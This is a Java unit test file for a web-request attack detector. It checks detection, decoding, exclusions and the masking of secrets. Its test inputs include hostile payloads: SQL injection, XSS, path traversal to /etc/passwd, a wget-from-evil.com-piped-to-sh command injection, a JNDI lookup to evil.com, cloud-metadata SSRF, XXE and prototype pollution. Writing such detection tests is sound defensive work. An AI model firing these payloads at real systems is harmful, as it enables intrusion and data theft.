package org.guardagent.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.function.Consumer;
import org.guardagent.detect.model.AttackModel;
import org.guardagent.gate.Detector.Detection;
import org.guardagent.gate.Visit;
import org.guardagent.gate.route.DetectionExclusions;
import org.guardagent.gate.route.RouteRules;
import org.guardagent.gate.sample.SamplePolicy;
import org.guardagent.gate.sample.SampleRequest;
import org.guardagent.pattern.PatternSet;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AttackDetectorTest {

  private static final AttackModel MODEL = AttackModel.load();

  private final CustomPatterns own = new CustomPatterns(List.of(), event -> {});
  private final AttackDetector detector = new AttackDetector(MODEL, 1.0, own);
  private final SamplePolicy policy = new SamplePolicy();

  @BeforeEach
  void lookForEvil() {
    policy.patterns = PatternSet.of(List.of("never-there", "evil\\s*thing"));
  }

  @Test
  void detectionSaysWhatWasFoundWhere() {
    Detection found = find(new SampleRequest().query("a=1&q=an+EVIL%20Thing%0d%0ahere&b=2"));

    assertThat(found.categories()).containsExactly("custom");
    assertThat(found.pattern()).isEqualTo("evil\\s*thing");
    assertThat(found.context()).isEqualTo("query_param:q");
    assertThat(found.trigger()).isEqualTo("Custom pattern found in the query parameter 'q'");
    assertThat(found.preview()).isEqualTo("an EVIL Thing  here");
    assertThat(found.score()).isEqualTo(1.0);
  }

  @Test
  void patternsOfTheApplicationAreLookedForToo() {
    assertThat(context(new SampleRequest().query("q=voucher-00"))).isNull();

    own.add("voucher-0+\\b");

    Detection found = find(new SampleRequest().query("q=Voucher-00"));
    assertThat(found.categories()).containsExactly("custom");
    assertThat(found.pattern()).isEqualTo("voucher-0+\\b");
    assertThat(context(new SampleRequest().query("q=evilthing"))).as("the platform's").isNotNull();

    own.remove("voucher-0+\\b");

    assertThat(context(new SampleRequest().query("q=voucher-00"))).isNull();
  }

  @Test
  void patternsHoldWhateverTheThreshold() {
    AttackDetector calm = new AttackDetector(MODEL, 5, own);
    own.add("evilmarker");
    SampleRequest request = new SampleRequest().query("q=evilmarker");

    Visit visit = SamplePolicy.visit(request, policy.build(), "203.0.113.9");

    assertThat(Objects.requireNonNull(calm.inspect(visit)).score()).isEqualTo(5);
  }

  @Test
  void everyPlaceIsSearchedRawAndDecodedOnce() {
    assertThat(context(new SampleRequest().path("/shop/evilthing"))).isEqualTo("url_path");
    assertThat(context(new SampleRequest().path("/shop/evil%20thing"))).isEqualTo("url_path");
    assertThat(context(new SampleRequest().path("/shop/evil%2520thing"))).isNull();
    assertThat(context(new SampleRequest().query("evil%74hing=1")))
        .isEqualTo("query_param:evilthing");
    assertThat(context(new SampleRequest().query("q=1&q=2&q=evilthing")))
        .isEqualTo("query_param:q");
    assertThat(context(new SampleRequest().query("evilthing"))).isNotNull();
    assertThat(context(new SampleRequest().header("User-Agent", "good", "evilthing")))
        .isEqualTo("header:user-agent");
    assertThat(context(new SampleRequest().header("Referer", "https://x/?evil%20thing")))
        .isEqualTo("header:referer");
    assertThat(context(new SampleRequest().body("text/plain", "some evilthing")))
        .isEqualTo("request_body");
    assertThat(context(new SampleRequest().query("a=good").header("Accept", "*/*"))).isNull();
  }

  @Test
  void bodiesAreReadAsTheyAreMeant() {
    String form = "application/x-www-form-urlencoded";
    assertThat(context(new SampleRequest().body(form, "a=1&b=evil+thing")))
        .isEqualTo("request_body:b");
    assertThat(json("{\"a\":[{\"b\":\"evil\\u0074hing\"}]}")).isEqualTo("request_body:b");
    assertThat(json("{\"evil\\tthing\":1}")).isEqualTo("request_body:evil thing");
    assertThat(json("\"evilthing\"")).isEqualTo("request_body");
    assertThat(json("{\"a\":\"evilthing")).isEqualTo("request_body:a");
    assertThat(json("{\"a\":1} evilthing")).isEqualTo("request_body");
    assertThat(json("{\"a\":1, evilthing:2}")).isEqualTo("request_body");
    assertThat(json("{'a':'evil thing'}")).isEqualTo("request_body");
    assertThat(json("{\"a\":\"evil\\nthing\"}")).isEqualTo("request_body:a");
    assertThat(json("{\"a\":\"evil\\qthing\",\"b\":tru}")).isNull();
    assertThat(json("evilthing {")).isEqualTo("request_body");
    assertThat(json("{\"a\":1}")).isNull();
  }

  /** A value that is longer than what is looked at is still looked at as far. */
  @Test
  void valueThatIsCutOffIsSearched() {
    assertThat(json("{\"a\":\"x\",\"b\":\"evilthing" + " ".repeat(5_000) + "\"}")).isNotNull();
  }

  @Test
  void bodyIsBoundedAndMayBeLeftOut() {
    String late = " ".repeat(policy.maxBodyBytes) + "evilthing";
    assertThat(context(new SampleRequest().body("text/plain", late))).isNull();
    policy.scanBody = false;
    assertThat(context(new SampleRequest().body("text/plain", "evilthing"))).isNull();
    assertThat(
            detector.inspect(
                visit(
                    new SampleRequest().body("text/plain", "evilthing"),
                    rules ->
                        rules.exclusions =
                            new DetectionExclusions(Set.of(), Set.of(), Set.of(), null, true))))
        .isNotNull();
  }

  /** Whoever reads them takes them apart first. */
  @Test
  void credentialsAreReadAsTheApplicationReadsThem() {
    String attack = "1' union select password from users--";
    Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
    String basic = encoder.encodeToString((attack + ":x").getBytes(StandardCharsets.UTF_8));
    String head = "{\"alg\":\"HS256\",\"kid\":\"" + attack + "\"}";
    String token = encoder.encodeToString(head.getBytes(StandardCharsets.UTF_8)) + ".e30.abc";

    for (String line : List.of("Basic " + basic, "Bearer " + token)) {
      Detection found = find(new SampleRequest().header("Authorization", line));
      assertThat(found.context()).isEqualTo("header:authorization");
      assertThat(found.preview()).isEqualTo("[masked]");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"Authorization", "Cookie", "COOKIE", "Proxy-Authorization", "X-API-Key"})
  void credentialsAreSearchedButNotShown(String header) {
    Detection found = find(new SampleRequest().header(header, "sid=evilthing"));

    assertThat(found.preview()).isEqualTo("[masked]");
    assertThat(found.toString().replace("evil\\s*thing", "")).doesNotContain("evilthing");
  }

  @ParameterizedTest
  @ValueSource(strings = {"password", "api_key", "accessToken", "client_secret", "sessionId"})
  void valuesOfSecretsAreFoundButNotShown(String name) {
    Detection found = find(new SampleRequest().query(name + "=evilthing"));

    assertThat(found.preview()).isEqualTo("[masked]");
    assertThat(found.toString().replace("evil\\s*thing", "")).doesNotContain("evilthing");
  }

  /** A search for a keyword is no password, and whoever sends a name cannot make it harmless. */
  @ParameterizedTest
  @ValueSource(strings = {"keyword=%s", "author=%s", "pass%s=1", "%spwd=1"})
  void onlyPasswordsMayLookLikeAnything(String query) {
    SampleRequest request = new SampleRequest().query(query.replace("%s", "1'+or+1%3D1--"));
    assertThat(inspect(request)).isNotNull();
  }

  @Test
  void tokensThatAreAttacksAreNotQuoted() {
    Detection found = find(new SampleRequest().query("token=1'+union+select+pin+from+cards--"));
    assertThat(found.toString()).doesNotContain("select", "cards");
  }

  @Test
  void exclusionsHold() {
    policy.exclusions =
        new DetectionExclusions(Set.of("x-note"), Set.of("q"), Set.of("html"), Set.of(), null);

    assertThat(context(new SampleRequest().header("X-Note", "evilthing"))).isNull();
    assertThat(context(new SampleRequest().query("Q=evilthing"))).isNull();
    assertThat(context(new SampleRequest().query("%71=evilthing&r=evilthing")))
        .isEqualTo("query_param:r");
    assertThat(json("{\"html\":\"evilthing\",\"a\":1}")).isNull();
    assertThat(json("{\"html\":{\"x\":[\"evilthing\"]},\"a\":\"evilthing\"}"))
        .isEqualTo("request_body:a");
    assertThat(json("{\"html\":[\"evilthing\", 2],\"a\":1}")).isNull();
    assertThat(json("{\"a\":[{\"html\":\"evilthing\"},\"evilthing\"]}")).isNotNull();
    assertThat(json("{\"html\":\"evilthing" + " ".repeat(5_000) + "\"}")).isNull();
    assertThat(
            context(
                new SampleRequest().body("application/x-www-form-urlencoded", "html=evilthing")))
        .isNull();
  }

  @Test
  void headersAreLeftOutByPolicyAndRouteTheRestByTheRouteAlone() {
    policy.exclusions =
        new DetectionExclusions(Set.of("x-one"), Set.of("one"), Set.of(), null, null);
    DetectionExclusions own =
        new DetectionExclusions(Set.of("x-two"), Set.of("two"), Set.of(), null, null);

    assertThat(inspect(new SampleRequest().header("X-One", "evilthing"), own)).isNull();
    assertThat(inspect(new SampleRequest().header("X-Two", "evilthing"), own)).isNull();
    assertThat(inspect(new SampleRequest().query("two=evilthing"), own)).isNull();
    assertThat(inspect(new SampleRequest().query("one=evilthing"), own)).isNotNull();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "q=1'+or+'1'%3D'1 ~ sqli ~ query_param:q",
        "q=%253Cscript%253Ealert(1)%253C/script%253E ~ xss ~ query_param:q",
        "f=../../../etc/passwd ~ path_traversal ~ query_param:f",
        "h=127.0.0.1;wget+http://evil.com/a+-O-+|sh ~ cmd_injection ~ query_param:h",
        "x=${jndi:ldap://evil.com/a} ~ code_injection ~ query_param:x",
        "u=http://169.254.169.254/latest/meta-data/ ~ ssrf ~ query_param:u",
        "n=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+\"file:///etc/passwd\">]> ~ xml ~ query_param:n"
      })
  void attacksAreFoundWithoutAnyPattern(String query, String category, String context) {
    policy.patterns = PatternSet.EMPTY;
    Detection found = find(new SampleRequest().query(query));

    assertThat(found.categories()).containsExactly(category);
    assertThat(found.context()).isEqualTo(context);
    assertThat(found.score()).isGreaterThanOrEqualTo(1);
  }

  @Test
  void attacksAreFoundInEveryPlace() {
    String attack = "1' union select password from users--";
    String form = "application/x-www-form-urlencoded";
    assertThat(context(new SampleRequest().header("User-Agent", "${jndi:ldap://evil.com/a}")))
        .isEqualTo("header:user-agent");
    assertThat(context(new SampleRequest().header("Accept-Language", "${jndi:ldap://evil.com/a}")))
        .isEqualTo("header:accept-language");
    assertThat(context(new SampleRequest().header("Cookie", "a=1; b=" + attack)))
        .isEqualTo("cookie:b");
    assertThat(context(new SampleRequest().body(form, "a=" + attack))).isEqualTo("request_body:a");
    assertThat(json("{\"a\":{\"b\":[\"" + attack + "\"]}}")).isEqualTo("request_body:b");
    assertThat(context(new SampleRequest().body("text/xml", "<a><b c=\"" + attack + "\"/></a>")))
        .isEqualTo("request_body:c");
    assertThat(context(new SampleRequest().body("text/xml", "<a><b>" + attack + "</b></a>")))
        .isEqualTo("request_body:b");
    String part = "--x\r\nContent-Disposition: form-data; name=\"n\"";
    assertThat(
            context(
                new SampleRequest()
                    .body("multipart/form-data; boundary=x", part + "\r\n\r\n" + attack)))
        .isEqualTo("request_body:n");
    assertThat(
            context(
                new SampleRequest()
                    .body(
                        "multipart/form-data; boundary=x",
                        part + "; filename=\"shell.jsp\"\r\n\r\n<%= 1 %>")))
        .isEqualTo("request_body:n");
  }

  /** Looking for an end again and again would take minutes here. */
  @ParameterizedTest
  @ValueSource(
      strings = {"<!>", "<![", "<![CDATA[", "<a b=", "<", "<a ", "<!DOCTYPE a [", "&#", "--x"})
  void bodiesWithoutAnEndAreSearchedInLinearTime(String piece) {
    policy.maxBodyBytes = 262_144;
    String body = piece.repeat(262_144 / piece.length());
    SampleRequest xml = new SampleRequest().body("application/xml", body);
    assertThat(inspect(xml)).isEqualTo(inspect(xml));
    SampleRequest parts = new SampleRequest().body("multipart/form-data; boundary=x", body);
    assertThat(inspect(parts)).isEqualTo(inspect(parts));
  }

  @Test
  void fieldsOfXmlAreLeftOut() {
    policy.exclusions = new DetectionExclusions(Set.of(), Set.of(), Set.of("note"), null, null);
    String attack = "<script>alert(1)&lt;/script>".replace("<", "&lt;");
    assertThat(context(new SampleRequest().body("text/xml", "<a><Note>" + attack + "</Note></a>")))
        .isNull();
    assertThat(context(new SampleRequest().body("text/xml", "<a><b>" + attack + "</b></a>")))
        .isEqualTo("request_body:b");
  }

  @Test
  void onlyChosenCategoriesAreLookedFor() {
    SampleRequest attack = new SampleRequest().query("q=1'+union+select+1,2,3--");
    assertThat(inspect(attack)).isNotNull();
    policy.exclusions = new DetectionExclusions(Set.of(), Set.of(), Set.of(), Set.of("xss"), null);
    assertThat(inspect(attack)).isNull();
  }

  @Test
  void ordinaryRequestOfABrowserIsLeftAlone() {
    SampleRequest request =
        new SampleRequest()
            .path("/shop/articles/42;jsessionid=0A1B2C3D4E5F60718293A4B5C6D7E8F9")
            .query("q=O%27Reilly+%26+Sons&sort=price,asc&from=2026-01-01T00:00:00Z&max=%E2%82%AC20")
            .header("Host", "shop.example.com:8443")
            .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
            .header("Accept-Language", "en-US,en;q=0.5")
            .header("Sec-CH-UA", "\"Chromium\";v=\"142\", \"Not)A;Brand\";v=\"99\"")
            .header("Referer", "https://shop.example.com/search?q=select+a+table&page=2")
            .header(
                "User-Agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                    + " Chrome/142.0.0.0 Safari/537.36")
            .header("Cookie", "theme=dark; sid=Zm9vYmFyMTIzNDU2Nzg5MA==; consent={\"ads\":false}")
            .body(
                "application/json", "{\"name\":\"Tom & Jerry's\",\"note\":\"50% off; call me!\"}");

    assertThat(inspect(request)).isNull();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "document.pdf",
        "IMG_4711.JPG",
        "Minutes of 3 March (2).docx",
        "session_report.txt",
        "Ada's notes.md",
        "backup.tar.gz"
      })
  void ordinaryFilesAreTaken(String name) {
    String part = "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + name + '"';
    SampleRequest upload =
        new SampleRequest().body("multipart/form-data; boundary=x", part + "\r\n\r\nabc\r\n--x--");
    assertThat(inspect(upload)).isNull();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/css/style.css",
        "/shop/orders/42",
        "/index.html",
        "/a/b.c/d",
        "/~ada/",
        "/login",
        "/static/js/main.3f2a1b.js",
        "/shop/admin",
        "/admin/users",
        "/shop/login",
        "/app/config",
        "/x/sql",
        "/articles/how-to-drop-a-table",
        "/"
      })
  void ordinaryPathsAreLeftAlone(String path) {
    assertThat(inspect(new SampleRequest().path(path))).isNull();
  }

  /** A hard password is no attack; an attack in a password's place still is. */
  @Test
  void passwordsMayLookLikeAnything() {
    String form = "application/x-www-form-urlencoded";
    for (String password : List.of("K'7s%22;--x9", "a<b>c$(d)", "p'w\"d;1#", "x' OR y", "{{77}}")) {
      assertThat(context(new SampleRequest().body(form, "user=ada&password=" + password)))
          .as(password)
          .isNull();
    }
    assertThat(context(new SampleRequest().body(form, "password=' or '1'='1' union select 1,2--")))
        .isEqualTo("request_body:password");
  }

  @Test
  void reDosPatternOfThePlatformEndsQuickly() {
    policy.patterns = PatternSet.of(List.of("(a+)+$", "(a|aa)+$", "^(([a-z])+.)+[A-Z]([a-z])+$"));
    policy.maxBodyBytes = 200_000;

    inspect(new SampleRequest().body("text/plain", "a".repeat(100_000) + "!"));
    Detection found = find(new SampleRequest().query("q=" + "a".repeat(50_000)));

    assertThat(found.preview()).hasSize(100);
  }

  @Test
  void randomRequestsNeverThrow() {
    Random random = new Random(34);
    String alphabet = "{}[]\",:\\u%&=+;0aé\u0000\ud800";
    for (int i = 0; i < 30_000; i++) {
      StringBuilder text = new StringBuilder();
      for (int length = random.nextInt(60); length > 0; length--) {
        text.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      String type = i % 2 == 0 ? "application/json" : "application/x-www-form-urlencoded";
      SampleRequest request =
          new SampleRequest()
              .path(text.toString())
              .query(text.toString())
              .header("X-Any", text.toString())
              .body(type, text.toString());
      assertThat(inspect(request)).isEqualTo(inspect(request));
    }
    assertThat(json("[".repeat(4_000))).isNull();
  }

  @Test
  void namesAreCleanInWhatIsTold() {
    Detection found =
        find(new SampleRequest().query("a%0d%0aINFO%1b[31m" + "x".repeat(500) + "=evilthing"));

    assertThat(found.context()).hasSizeLessThan(100).doesNotContain("\n", "\r", "\u001b");
    assertThat(found.trigger()).hasSizeLessThan(200).doesNotContain("\n", "\r", "\u001b");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'user':'admin','password':{'$ne':null}}",
        "{'password':{ '$gt' : ''}}",
        "{'a':[{'b':{'\\u0024regex':'^a'}}]}",
        "{'__proto__':{'admin':true}}",
        "{'$where':'a'}",
        "{'constructor':{'prototype':{'isAdmin':true}}}",
        "{'a':1,'constructor':{'x':[{'y':1}],'prototype':{'isAdmin':true}}}"
      })
  void namesAreOperators(String body) {
    policy.patterns = PatternSet.EMPTY;
    assertThat(json(body.replace('\'', '"'))).isNotNull();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'$schema':'https://json-schema.org/draft/2020-12/schema','$id':'a'}",
        "{'items':{'$ref':'#/definitions/a'},'created':{'$date':'2026-01-01'},'_id':{'$oid':'1'}}",
        "{'__typename':'Query','__v':0,'_links':{}}",
        "{'constructor':{'name':'McLaren'},'prototype':{'id':1}}",
        "{'constructor':'McLaren','car':{'prototype':{'id':1}}}",
        "{'$type':'a','$values':[],'$comment':'b','$defs':{'$anchor':'c'},'$':1,'__':2}"
      })
  void namesLikeThoseMayBeOrdinary(String body) {
    policy.patterns = PatternSet.EMPTY;
    assertThat(json(body.replace('\'', '"'))).isNull();
  }

  private @Nullable String json(String body) {
    return context(new SampleRequest().body("application/json;charset=utf-8", body));
  }

  private @Nullable String context(SampleRequest request) {
    @Nullable Detection found = inspect(request);
    return found == null ? null : found.context();
  }

  private Detection find(SampleRequest request) {
    return Objects.requireNonNull(inspect(request));
  }

  private @Nullable Detection inspect(SampleRequest request) {
    return detector.inspect(SamplePolicy.visit(request, policy.build(), "203.0.113.9"));
  }

  private @Nullable Detection inspect(SampleRequest request, DetectionExclusions own) {
    return detector.inspect(visit(request, rules -> rules.exclusions = own));
  }

  private Visit visit(SampleRequest request, Consumer<RouteRules.Builder> rules) {
    return SamplePolicy.matched(
        SamplePolicy.visit(request, policy.build(), "203.0.113.9"), "/shop", rules);
  }
}
